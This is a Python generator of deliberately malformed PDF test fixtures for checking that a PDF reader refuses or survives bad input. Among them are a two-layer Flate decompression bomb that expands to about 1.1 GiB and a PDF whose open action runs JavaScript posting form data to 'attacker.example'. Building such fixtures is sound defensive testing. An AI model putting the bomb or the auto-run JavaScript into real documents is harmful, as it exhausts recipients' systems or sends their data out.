"""Bad PDFs, written byte by byte (a reader must refuse or survive each;
samples/pdf/README.md says what it must do with which).

Every file is tiny and the same on every run.
"""

from __future__ import annotations

import json
import zlib
from pathlib import Path

from gen_fpdf import encrypt, sha256

FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"


def stream(data: bytes, extra: bytes = b"") -> bytes:
    """A stream object's body."""
    return b"<< /Length %d%s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def text_page(lines: list[str], width: int = 612, height: int = 792) -> bytes:
    """A content stream showing `lines` in 11 pt Helvetica from the top left."""
    ops = [b"BT /F1 11 Tf 14 TL 50 %d Td" % (height - 60)]
    for line in lines:
        escaped = line.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
        ops.append(b"(%s) Tj T*" % escaped.encode("cp1252"))
    ops.append(b"ET")
    return b"\n".join(ops)


def write_pdf(objects: list[bytes], root: int = 1, shift_xref: int = 0, trailer_extra: bytes = b"") -> bytes:
    """A classic PDF (header, objects numbered from 1, xref table,
    trailer). `shift_xref` adds that many bytes to every offset of the
    xref table: a broken table that only a reader scanning for `N 0 obj`
    can recover from."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % (offset + shift_xref)
    out += b"trailer\n<< /Size %d /Root %d 0 R%s >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, root, trailer_extra, xref)
    return bytes(out)


def one_page(lines: list[str], catalog_extra: bytes = b"", more: list[bytes] | None = None) -> list[bytes]:
    """Objects 1-5 of a one-page document (catalog, pages, page, font,
    content), then `more`."""
    return [
        b"<< /Type /Catalog /Pages 2 0 R%s >>" % catalog_extra,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
         b"/Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>"),
        FONT,
        stream(text_page(lines)),
        *(more or []),
    ]


INVOICE_LINES = [
    "Invoice # BAD-0001   Date 11/15/2026   PO BHO-PO-79999",
    "SKU  Description  Qty  Price  Amount",
    "BAD-SKU-1  Test item  1  10.00  10.00",
    "Total Due  $10.00",
]


def bomb_stream(size: int = 1100 << 20) -> bytes:
    """A Flate stream inside a Flate stream: a few KB that inflate to
    about 1 MB, which inflates to `size` bytes of zeros (1.1 GiB). Deflate
    alone cannot pass ~1000:1, hence two layers (/Filter [/FlateDecode
    /FlateDecode]). The zeros are made and compressed a chunk at a time;
    they are never in memory at once."""
    inner = zlib.compressobj(9)
    outer = zlib.compressobj(9)
    chunk = bytes(1 << 20)
    out = bytearray()
    for _ in range(size // len(chunk)):
        out += outer.compress(inner.compress(chunk))
    out += outer.compress(inner.flush())
    out += outer.flush()
    return bytes(out)


def generate(out: Path) -> list[str]:
    folder = out / "bad"
    folder.mkdir(parents=True, exist_ok=True)
    good = write_pdf(one_page(INVOICE_LINES))
    (folder / "valid-baseline.pdf").write_bytes(good)

    # Cut in the middle of the content stream: no xref, no trailer.
    (folder / "truncated.pdf").write_bytes(good[: good.index(b"BAD-SKU-1")])

    # Every xref offset 7 bytes off (startxref itself is right).
    (folder / "broken-xref.pdf").write_bytes(write_pdf(one_page(INVOICE_LINES), shift_xref=7))

    # Page 1 draws a Form XObject whose content is the bomb.
    bomb = bomb_stream()
    objects = one_page(INVOICE_LINES)
    objects[2] = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
                  b"/Resources << /Font << /F1 4 0 R >> /XObject << /X1 6 0 R >> >> "
                  b"/Contents [5 0 R 7 0 R] >>")
    objects.append(stream(bomb, b" /Type /XObject /Subtype /Form /BBox [0 0 612 792]"
                                b" /Filter [/FlateDecode /FlateDecode]"))
    objects.append(stream(b"q /X1 Do Q"))
    (folder / "decompression-bomb.pdf").write_bytes(write_pdf(objects))

    # JavaScript run on open, and an embedded file (an XML "invoice").
    attachment = b'<?xml version="1.0"?><invoice number="EMBEDDED-1"/>'
    objects = one_page(
        INVOICE_LINES,
        catalog_extra=b" /OpenAction 6 0 R /Names << /EmbeddedFiles << /Names [(invoice.xml) 7 0 R] >> >>",
        more=[
            b"<< /Type /Action /S /JavaScript /JS (app.alert\\('Pay now'\\); this.submitForm\\('http://attacker.example/'\\);) >>",
            b"<< /Type /Filespec /F (invoice.xml) /UF (invoice.xml) /EF << /F 8 0 R >> >>",
            stream(attachment, b" /Type /EmbeddedFile /Subtype /text#2Fxml"),
        ],
    )
    (folder / "javascript-attachment.pdf").write_bytes(write_pdf(objects))

    # Encrypted with a user password we do not have.
    plain = folder / "valid-baseline.pdf"
    target = folder / "encrypted-user-password.pdf"
    stamp = folder / "encrypted-user-password.json"
    encrypt(plain, target, "vendor-secret", "vendor-owner", ["256", "--"], stamp)
    stamp.write_text(
        json.dumps({"source_sha256": sha256(plain), "user_password": "vendor-secret"}, indent=2) + "\n")

    # 300 small pages, one shared font.
    pages = 300
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>",
               b"<< /Type /Pages /Kids [%s] /Count %d >>"
               % (b" ".join(b"%d 0 R" % (4 + 2 * i) for i in range(pages)), pages),
               FONT]
    for i in range(pages):
        objects.append(b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] "
                       b"/Resources << /Font << /F1 3 0 R >> >> /Contents %d 0 R >>" % (5 + 2 * i))
        objects.append(stream(b"BT /F1 10 Tf 20 60 Td (Page %d of %d) Tj ET" % (i + 1, pages)))
    (folder / "300-pages.pdf").write_bytes(write_pdf(objects))
    return ["bad"]
